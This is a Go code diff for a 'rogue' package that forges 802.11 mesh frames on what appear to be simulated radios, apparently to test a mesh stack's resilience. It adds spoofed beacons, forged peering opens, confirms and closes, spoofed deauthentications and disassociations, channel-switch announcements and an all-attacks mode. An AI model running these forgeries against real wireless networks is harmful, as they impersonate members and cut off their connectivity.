@@ -7,7 +7,6 @@ package rogue
 import (
 	"crypto/ecdh"
 	"crypto/rand"
-	"encoding/binary"
 	"fmt"
 	"net"
 	"slices"
@@ -27,12 +26,33 @@ const (
 	// Commits sends SAE Commits to everybody that was heard, from addresses that
 	// are made up and, each fourth, in the name of another that was heard.
 	Commits Attack = "commits"
+	// Beacons sends beacons of the mesh from ever new addresses and, each fourth,
+	// in a member's name with other contents than its own.
+	Beacons Attack = "beacons"
+	// Opens, Confirms and Closes send these Mesh Peering frames in the name of one
+	// member to another, under keys that are not the members'.
+	Opens    Attack = "opens"
+	Confirms Attack = "confirms"
+	Closes   Attack = "closes"
+	// Deauth sends Deauthentications and Disassociations in members' names to
+	// each other and, each fourth, to all.
+	Deauth Attack = "deauth"
 	// Replay sends again what was heard, in the name of who sent it.
 	Replay Attack = "replay"
+	// All does each of these in turn.
+	All Attack = "all"
+	// ChannelSwitch sends beacons that announce a switch to another channel, from
+	// made-up addresses and in members' names. The kernel obeys whoever says so in
+	// a beacon of the mesh: members can come back, but not stay, which is why All
+	// is without it.
+	ChannelSwitch Attack = "channel-switch"
 )
 
+// each are the attacks of All, in its order.
+var each = []Attack{Commits, Beacons, Opens, Confirms, Closes, Deauth, Replay}
+
 // Attacks are all of them.
-func Attacks() []Attack { return []Attack{Commits, Replay} }
+func Attacks() []Attack { return append(slices.Clone(each), All, ChannelSwitch) }
 
 // Config of a rogue.
 type Config struct {
@@ -68,6 +88,7 @@ type Status struct {
 const (
 	maxVictims = 64
 	maxKept    = 256 // frames to be replayed
+	maxLinks   = 256 // pairs whose peering was overheard
 	points     = 32  // elements that Commits are made of, by turns
 	underway   = 32  // frames that are not through yet
 )
@@ -89,6 +110,8 @@ type Rogue struct {
 	status   Status
 	freqMHz  int // that was heard last; 0: nobody was
 	victims  []dot11.MAC
+	members  []member // of the victims, those that beacon
+	links    map[ends]overheard
 	kept     [][]byte
 	elements [][]byte
 	turn     int
@@ -103,6 +126,7 @@ func New(c Config, address net.HardwareAddr) (*Rogue, error) {
 	}
 	r := &Rogue{
 		c: c, address: address, free: make(chan struct{}, underway), done: make(chan struct{}), status: Status{Attack: c.Attack, PerSecond: c.PerSecond},
+		links: map[ends]overheard{},
 	}
 	for range underway {
 		r.free <- struct{}{}
@@ -139,6 +163,11 @@ func (r *Rogue) Next() (hwsim.Frame, error) {
 			return hwsim.Frame{}, net.ErrClosed
 		case <-time.After(time.Until(r.next)):
 		}
+		select {
+		case <-r.done: // whichever of them was taken above, when all were ready
+			return hwsim.Frame{}, net.ErrClosed
+		default:
+		}
 		if late := time.Now().Add(-catchUp); r.next.Before(late) {
 			r.next = late
 		}
@@ -153,16 +182,15 @@ func (r *Rogue) Next() (hwsim.Frame, error) {
 func (r *Rogue) frame() (hwsim.Frame, bool) {
 	r.mu.Lock()
 	defer r.mu.Unlock()
-	var data []byte
-	switch {
-	case r.c.Attack == Replay && len(r.kept) > 0:
-		data = r.kept[r.turn%len(r.kept)]
-	case r.c.Attack == Commits && len(r.victims) > 0:
-		data = r.commit()
-	default:
-		return hwsim.Frame{}, false
+	attack, n := r.c.Attack, r.turn
+	if attack == All {
+		attack, n = each[r.turn%len(each)], r.turn/len(each)
 	}
 	r.turn++
+	data := r.forge(attack, n)
+	if data == nil {
+		return hwsim.Frame{}, false
+	}
 	r.status.Sent++
 	slowest := int8(0)
 	if r.freqMHz < 3000 { // behind those of 802.11b
@@ -174,37 +202,35 @@ func (r *Rogue) frame() (hwsim.Frame, bool) {
 	}, true
 }
 
-// Values of a Commit (802.11-2020 9.4.1.1, 12.4.7.3).
-const (
-	algorithmSAE  = 3
-	commit        = 1
-	statusSuccess = 0   // hunting and pecking
-	statusH2E     = 126 // hash to element
-	group19       = 19
-)
+// forge makes the n-th frame of an attack, nil while too little was heard for
+// it; r.mu is held.
+func (r *Rogue) forge(a Attack, n int) []byte {
+	switch {
+	case len(r.victims) == 0: // nor anything kept
+	case a == Commits:
+		return r.commit(n)
+	case a == Replay:
+		return r.kept[n%len(r.kept)]
+	case len(r.members) == 0:
+	case a == Beacons:
+		return r.beacon(n)
+	case a == ChannelSwitch:
+		return r.announcement(n)
+	case len(r.members) == 1: // who has nobody to be attacked in the name of
+	case a == Deauth:
+		return r.goodbye(n)
+	default:
+		return r.peering(actions[a], n)
+	}
+	return nil
+}
 
-// commit makes a Commit to the victim whose turn it is; r.mu is held.
-func (r *Rogue) commit() []byte {
-	round := r.turn / 4
-	victim := (r.turn + round) % len(r.victims) // so that the fourth is not always the same
-	to := r.victims[victim]
-	from := dot11.MAC{0x02, 0x66}
-	rand.Read(from[2:])
-	if others := len(r.victims) - 1; r.turn%4 == 0 && others > 0 {
-		from = r.victims[(victim+1+round%others)%len(r.victims)]
-	}
-	status := uint16(statusH2E)
-	if round%4 >= 2 {
-		status = statusSuccess
-	}
-	scalar := make([]byte, 32)
-	rand.Read(scalar)
-	scalar[0] &= 0x7f // below the order of the curve
-	b := dot11.AppendManagement(nil, dot11.Header{Subtype: dot11.Authentication, To: to, From: from})
-	for _, v := range []uint16{algorithmSAE, commit, status, group19} {
-		b = binary.LittleEndian.AppendUint16(b, v)
-	}
-	return slices.Concat(b, scalar, r.elements[r.turn%len(r.elements)])
+// pair returns two of a list that has two at least: whom the n-th frame of an
+// attack is to, and in whose name. All pairs have their turn.
+func pair[T any](list []T, n int) (to, from T) {
+	others := len(list) - 1
+	i := n % len(list)
+	return list[i], list[(i+1+n/len(list)%others)%len(list)]
 }
 
 // Deliver lets the rogue hear a frame.
@@ -221,9 +247,14 @@ func (r *Rogue) Deliver(_ net.HardwareAddr, data []byte, _, _, freqMHz int) erro
 	} else {
 		r.kept[r.status.Heard%maxKept] = data
 	}
-	if from := dot11.MAC(data[10:16]); !from.Group() && len(r.victims) < maxVictims && !slices.Contains(r.victims, from) {
+	from := dot11.MAC(data[10:16])
+	if from.Group() {
+		return nil
+	}
+	if !slices.Contains(r.victims, from) && len(r.victims) < maxVictims {
 		r.victims = append(r.victims, from)
 	}
+	r.learn(data)
 	return nil
 }
 
